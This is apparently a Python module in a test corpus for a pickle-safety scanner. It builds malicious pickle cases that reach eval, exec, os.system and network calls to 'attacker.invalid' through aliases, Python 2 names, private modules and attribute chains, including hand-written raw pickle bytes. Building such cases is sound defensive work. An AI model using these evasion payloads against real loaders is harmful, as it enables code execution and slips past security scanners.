"""Other names of dangerous things: aliases, Python 2 names, private modules and attributes of harmless modules."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from corpora.assembly import COMMAND, EXPRESSION, SOURCE, call, described, pushed
from corpora.case import Case, Technique

if TYPE_CHECKING:
    from collections.abc import Iterator

PYTHON_2: Final[tuple[tuple[str, str, tuple[object, ...]], ...]] = (
    ("__builtin__", "eval", (EXPRESSION,)),
    ("__builtin__", "execfile", ("attacker.py",)),
    ("__builtin__", "__import__", ("attacker",)),
    ("__builtin__", "file", ("telamon-canary", "w")),
    ("__builtin__", "apply", (call("builtins", "print"), ())),
    ("__builtin__", "reload", (None,)),
    ("commands", "getoutput", (COMMAND,)),
    ("popen2", "popen3", (COMMAND,)),
    ("urllib", "urlopen", ("http://attacker.invalid",)),
    ("urllib2", "urlopen", ("http://attacker.invalid",)),
    ("httplib", "HTTPSConnection", ("attacker.invalid",)),
    ("SocketServer", "TCPServer", (("", 9999), None)),
    ("xmlrpclib", "ServerProxy", ("http://attacker.invalid",)),
    ("anydbm", "open", ("telamon-canary", "c")),
    ("thread", "start_new_thread", (call("builtins", "print"), ())),
    ("dummy_thread", "start_new_thread", (call("builtins", "print"), ())),
    ("cPickle", "load", (None,)),
    ("imp", "load_module", ("attacker", None, "attacker.py", ("", "", 1))),
)
PRIVATE: Final[tuple[tuple[str, str, tuple[object, ...]], ...]] = (
    ("_io", "open", ("telamon-canary", "w")),
    ("_pyio", "open", ("telamon-canary", "w")),
    ("_pyio", "FileIO", ("telamon-canary", "w")),
    ("tarfile", "bltn_open", ("telamon-canary", "w")),
    ("tokenize", "_builtin_open", ("telamon-canary", "w")),
    ("_frozen_importlib", "__import__", ("attacker",)),
    ("_frozen_importlib_external", "SourceFileLoader", ("attacker", "attacker.py")),
    ("importlib._bootstrap", "_gcd_import", ("attacker",)),
    ("importlib._bootstrap_external", "SourceFileLoader.load_module", (None,)),
    ("shutil", "os.system", (COMMAND,)),
    ("logging", "os.system", (COMMAND,)),
    ("posixpath", "os.system", (COMMAND,)),
    ("genericpath", "os.popen", (COMMAND,)),
    ("collections", "_sys.modules", ()),
    ("random", "_os.system", (COMMAND,)),
    ("tempfile", "_os.system", (COMMAND,)),
    ("codecs", "builtins.exec", (SOURCE,)),
    ("uuid", "os.system", (COMMAND,)),
    ("platform", "subprocess.getoutput", (COMMAND,)),
    ("torch.serialization", "os.system", (COMMAND,)),
    ("torch", "serialization.os.system", (COMMAND,)),
    ("torch._utils", "sys.modules.get", ("os",)),
    ("numpy", "f2py.os.system", (COMMAND,)),
    ("joblib.numpy_pickle", "os.system", (COMMAND,)),
    ("sklearn.datasets._base", "os.system", (COMMAND,)),
    ("sklearn.utils", "np.load", ("attacker.npy", None, True)),
    ("pandas.io.common", "os.system", (COMMAND,)),
    ("builtins", "eval.__call__", (EXPRESSION,)),
    ("builtins", "object.__subclasses__", ()),
    ("builtins", "print.__self__.exec", (SOURCE,)),
    ("collections", "OrderedDict.__init__.__globals__", ()),
    ("collections", "namedtuple.__globals__.get", ("_sys",)),
    ("functools", "reduce.__self__.reduce", (call("builtins", "print"), [1, 2])),
    ("os", "system.__call__", (COMMAND,)),
    ("os", "_wrap_close.__init__.__globals__", ()),
    ("numpy", "__builtins__", ()),
    ("__main__", "__builtins__.exec", (SOURCE,)),
)


def cases() -> Iterator[Case]:
    """Yield calls by other names; those of Python 2 in protocol 2, where loaders translate them."""
    for module, name, arguments in PYTHON_2:
        program = call(module, name, *arguments, protocol=2)
        twin = described(module, name, arguments, protocol=2)
        yield Case(name=f"{module}:{name}", technique=Technique.NAMES, data=program.finished(), twin=twin)
    for module, name, arguments in PRIVATE:
        data = call(module, name, *arguments).finished()
        twin = described(module, name, arguments)
        yield Case(name=f"{module}:{name}", technique=Technique.NAMES, data=data, twin=twin)
    reference = b"\x80\x04c" + b"antigravity\ngeohash\n."
    yield Case(name="import-opens-a-browser", technique=Technique.NAMES, data=reference)
    dotted = b"\x80\x02N0\x80\x04cshutil\nos.system\n" + pushed(COMMAND) + b"\x85R."
    yield Case(name="dotted-name-after-a-second-proto", technique=Technique.NAMES, data=dotted)
